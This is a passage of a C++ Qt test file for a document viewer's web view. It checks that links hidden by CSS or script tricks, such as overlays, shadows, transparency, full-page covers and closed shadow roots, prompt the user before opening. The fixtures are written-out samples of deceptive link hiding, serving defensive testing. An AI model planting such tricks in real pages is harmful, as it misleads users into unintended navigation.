         R"h(<div style="position: relative; width: 300px"><div style="position: absolute; left: 0; top: 0; right: 0; bottom: 0; background: #000"></div>)h"
         R"h(<a href="@" style="position: relative; color: #000">sibling</a></div>)h",
         "a"},
        {"inset-shadow",
         R"h(<p><span style="display: inline-block; box-shadow: inset 0 0 0 60px #000"><a href="@" style="color: #000">inset</a></span></p>)h",
         "a"},
        {"outline",
         R"h(<p><span style="display: inline-block; width: 200px; height: 40px; outline: 20px solid #000; outline-offset: -20px">)h"
         R"h(<a href="@" style="color: #000">outline</a></span></p>)h",
         "a"},
        // The link's own generated content laid over the paragraph, with
        // other text.
        {"own-before",
         R"h(<style>#before::before { content: "Nothing to click here"; position: absolute; left: 0; top: 0; right: 0; bottom: 0; background: #fff; color: #222; }</style>)h"
         R"h(<p style="position: relative"><a id="before" href="@">before</a></p>)h",
         "a"},
        // Another element's text shadow, white blocks, drawn over the link.
        {"text-shadow",
         R"h(<p style="position: relative"><a href="@">shaded</a><span style="position: absolute; left: 0; top: 40px; font-size: 40px; line-height: 1; color: transparent; text-shadow: 0 -40px 0 #fff">&#x2588;&#x2588;&#x2588;&#x2588;&#x2588;</span></p>)h",
         "a"},
        // White text over a black background that is painted only inside
        // the letters.
        {"background-clip",
         R"h(<div style="background: #000; -webkit-background-clip: text; background-clip: text"><a href="@" style="color: #fff">clipped</a></div>)h",
         "a"},
        // Half transparent, and faded by half: a quarter of its colour.
        {"faded-twice", R"h(<p><a href="@" style="color: rgba(0, 0, 0, 0.5); opacity: 0.5">faded</a></p>)h", "a"},
        {"skewed", R"h(<p><a href="@" style="display: inline-block; transform: skewX(89.5deg)">skewed</a></p>)h", "a"},
        {"skipped",
         R"h(<p><a href="@" style="display: inline-block; content-visibility: hidden; width: 100px; height: 20px">skipped</a></p>)h",
         "a"},
        // A veil that lets the pointer through by a rule that outweighs any
        // the watch can make, or by being inert.
        {"layered-veil",
         R"h(<style>@layer veil { .veil { pointer-events: none !important; } }</style>)h"
         R"h(<p style="position: relative"><a href="@">layered</a><span class="veil" style="position: absolute; left: 0; top: 0; width: 200px; height: 30px; background: #fff"></span></p>)h",
         "a"},
        {"inert-veil",
         R"h(<p style="position: relative"><a href="@">inert</a><span inert style="position: absolute; left: 0; top: 0; width: 200px; height: 30px; background: #fff"></span></p>)h",
         "a"},
        {"clear-picture", R"h(<p><a href="@"><img alt="" width="40" height="30" src=")h" + clear + R"h("></a></p>)h",
         "img"},
        {"clear-drawing",
         R"h(<p><a href="@"><img alt="" width="40" height="30" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='40' height='30'/%3E"></a></p>)h",
         "img"},
        // An opaque white picture over the whole page, white itself.
        {"white-cover",
         R"h(<a href="@"><img alt="" src=")h" + white +
             R"h(" style="position: fixed; left: 0; top: 0; width: 100%; height: 100%"></a>)h",
         "#text"},
        {"picture-moved-away",
         R"h(<p><a href="@"><img alt="" width="40" height="30" src=")h" + blue +
             R"h(" style="object-fit: none; object-position: 500px 0"></a></p>)h",
         "img"},
        {"picture-replaced",
         R"h(<p><a href="@"><img alt="" width="40" height="30" src=")h" + blue + R"h(" style="content: url()h" + clear +
             R"h()"></a></p>)h",
         "img"},
        // Its text inside a box of no size that shows nothing outside it.
        {"overflow",
         R"h(<p><a href="@" style="display: inline-block; width: 160px; height: 24px"><span style="display: block; width: 0; height: 0; overflow: hidden">)h"
         R"h(<span style="font-size: 20px; white-space: nowrap">hiddenwords</span></span></a></p>)h",
         "a"},
        // Two letters far apart: the click falls between them.
        {"spaced", R"h(<p><a href="@" style="letter-spacing: 300px">ab</a></p>)h", "a"},
        // Two letters with a run of blanks between them, where it falls.
        {"blanks", R"h(<p><a href="@" style="white-space: pre">a                                        b</a></p>)h",
         "a"},
        {"first-line",
         R"h(<style>#first::first-line { color: #fff; } #first a { color: inherit; }</style><p id="first"><a href="@">first</a> words after it</p>)h",
         "a"},
        // A box's shadow spread over the whole page, black like the text.
        {"shadow-spread",
         R"h(<div style="height: 0; box-shadow: 0 0 0 3000px #000"></div><p><a href="@" style="color: #000">spread</a></p>)h",
         "a"},
        // White text spilling out of a black box of no height onto the
        // white page.
        {"spill", R"h(<div style="background: #000; height: 0"><a href="@" style="color: #fff">spill</a></div>)h", "a"},
        // Drawn inside a shadow root the page closed, nearly transparent.
        {"closed-shadow",
         R"h(<div id="host"><a href="@">shadowed</a></div><script>document.getElementById('host')
           .attachShadow({mode: 'closed'}).innerHTML = '<div style="opacity: 0.02"><slot></slot></div>';</script>)h",
         "a"},
        // Nearly black text on the dark canvas the page asks for.
        {"dark-canvas",
         R"h(<style>:root { color-scheme: dark; } body { background: none !important; }</style><p><a href="@" style="color: #111">dark</a></p>)h",
         "a"},
        // A font the page brought: what it draws cannot be told.
        {"page-font",
         R"h(<style>@font-face { font-family: Pagefont; src: local("DejaVu Sans"); }</style><p><a href="@" style="font-family: Pagefont">font</a></p>)h",
         "a"},
    };
    QStringList expected;
    for (const Case &hidden : cases) {
        const QString address = QStringLiteral("https://example.com/") + hidden.name;
        QString html = hidden.html;
        html.replace(QLatin1String("\"@\""), "\"" + address + "\"");
        ASSERT_EQ(load(*view,
                       "<!DOCTYPE html><html><head><style>body { font: 16px sans-serif; background: #fff; color: #222;"
                       " margin: 20px; } p { margin: 0 0 20px; }</style></head><body>"
                       "<p id=\"text\">Plain text of the diary: nobody knows.</p>" +
                           html + "</body></html>",
                       QUrl("file:///tmp/a.md")),
                  true)
            << hidden.name;
        alerts.addAnswers({1});
        ASSERT_TRUE(clickElement(*view, hidden.click)) << hidden.name;
        expected << address;
        ASSERT_TRUE(waitUntil([&] { return questions(alerts).size() == expected.size() || !left.isEmpty(); }, 20000))
            << hidden.name;
        ASSERT_EQ(left, QList<QUrl>()) << hidden.name;
    }
    pause(500);
    EXPECT_EQ(questions(alerts), expected);
    EXPECT_EQ(left, QList<QUrl>());
}

// A style sheet of the document's folder, which the page may not read: a
// link plainly shown still opens at once, and one that a shadow of the
// sheet's lays over is asked about.
TEST_F(WebViewTest, AClickAsksAboutALinkThatAStyleSheetOfTheFolderHides) {
    QTemporaryDir root;
    ASSERT_TRUE(writeFile(root.filePath("look.css"), "body { background: #fff; color: #222; }\n"
                                                     ".on { height: 0; box-shadow: 0 0 0 3000px #000; }\n"));
    ASSERT_EQ(load(*view,
                   "<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"look.css\"></head><body>"
                   "<p><a id=\"plain\" href=\"https://example.com/plain\">plain</a></p><div id=\"shade\"></div>"
                   "<p><a id=\"under\" href=\"https://example.com/under\" style=\"color: #000\">under</a></p>"
                   "</body></html>",
                   QUrl::fromLocalFile(root.filePath("doc.md"))),
              true);
    ASSERT_EQ(evaluateText(*view, "getComputedStyle(document.body).backgroundColor"), "rgb(255, 255, 255)");
    ASSERT_TRUE(clickElement(*view, "#plain"));
    ASSERT_TRUE(waitUntil([&] { return !left.isEmpty() || alerts.count() > 0; }, 20000));
    EXPECT_EQ(left, QList<QUrl>{QUrl("https://example.com/plain")});
    EXPECT_EQ(alerts.count(), 0);

    evaluate(*view, "document.getElementById('shade').className = 'on'");
    alerts.addAnswers({1});
    ASSERT_TRUE(clickElement(*view, "#under"));
    ASSERT_TRUE(waitUntil([&] { return left.size() > 1 || alerts.count() > 0; }, 20000));
    pause(300);
    EXPECT_EQ(questions(alerts), QStringList{"https://example.com/under"});
    EXPECT_EQ(left.size(), 1);
}

// An address that the page and the engine escape differently (braces, a
// bar, a caret or a backquote in its query or its fragment, a space) is the
// same address: a click on a link the page writes to it opens it at once,
// and one a script made is asked about, in full.
TEST_F(WebViewTest, AClickOpensAnAddressHoweverItsCharactersAreEscaped) {
    ASSERT_EQ(load(*view,
                   "<p><a id=\"braced\" href=\"https://example.com/t?d={x}&amp;e=%7By%7D|^`#a{b}\">braced</a>"
                   " <a id=\"spaced\" href=\"https://example.com/a b?q=c d\">spaced</a></p>"
                   "<script>var a = document.createElement('a'); a.id = 'made'; a.textContent = 'made';"
                   " a.href = 'https://example.com/m?d={made}'; document.body.appendChild(a);</script>",
                   QUrl("file:///tmp/a.md")),
              true);
    ASSERT_TRUE(clickElement(*view, "#braced"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 1; }));
    EXPECT_EQ(left.last().query(QUrl::FullyDecoded), "d={x}&e={y}|^`");
    EXPECT_EQ(left.last().fragment(QUrl::FullyDecoded), "a{b}");
    ASSERT_TRUE(clickElement(*view, "#spaced"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 2; }));
    EXPECT_EQ(left.last().toString(QUrl::FullyEncoded), "https://example.com/a%20b?q=c%20d");
    EXPECT_EQ(alerts.count(), 0);
    alerts.addAnswers({1});
    ASSERT_TRUE(clickElement(*view, "#made"));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 1; }));
    EXPECT_EQ(questions(alerts), QStringList{"https://example.com/m?d=%7Bmade%7D"});
    pause(300);
    EXPECT_EQ(left.size(), 2);
}

// The question before an address a script made is shown for real and
// answered with the keys: Return, on its default button, opens nothing, nor
// does Escape.
TEST_F(WebViewTest, ReturnAtTheQuestionOpensNothing) {
    ASSERT_EQ(load(*view,
                   "<p id=\"text\">Some text to click.</p>"
                   "<script>function cover() { var a = document.createElement('a');"
                   " a.href = 'https://example.com/cover';"
                   " a.style.cssText = 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0';"
                   " document.body.appendChild(a); }</script>",
                   QUrl("file:///tmp/a.md")),
              true);
    evaluate(*view, "cover()");
    const platform::Alerts::Handler scripted = platform::Alerts::setHandler({});
    for (const Qt::Key key : {Qt::Key_Return, Qt::Key_Escape}) {
        QString asked;
        QTimer answer;
        QObject::connect(&answer, &QTimer::timeout, [&] {
            auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget());
            if (!box || !box->isVisible())
                return;
            answer.stop();
            asked = box->text();
            QKeyEvent press(QEvent::KeyPress, key, Qt::NoModifier);
            QApplication::sendEvent(box, &press);
        });
        answer.start(20);
        ASSERT_TRUE(clickElement(*view, "#text"));
        ASSERT_TRUE(waitUntil([&] { return !asked.isEmpty(); }));
        EXPECT_EQ(asked, "Open this address?");
        pause(500);
        EXPECT_TRUE(left.isEmpty()) << key;
    }
    platform::Alerts::setHandler(scripted);
}

// Keyboard focus given to the page goes on to the focus target.
TEST_F(WebViewTest, PassesKeyboardFocusOn) {
    ASSERT_EQ(load(*view, "<p>x</p>", QUrl("file:///tmp/a.md")), true);
    EXPECT_EQ(view->contextMenuPolicy(), Qt::NoContextMenu);
    view->setFocusTarget(field);
    QWidget *inner = view->focusProxy() ? view->focusProxy() : view;
    window.activateWindow();
    inner->setFocus(Qt::MouseFocusReason);
    ASSERT_TRUE(waitUntil([&] { return field->hasFocus(); }, 3000));
}
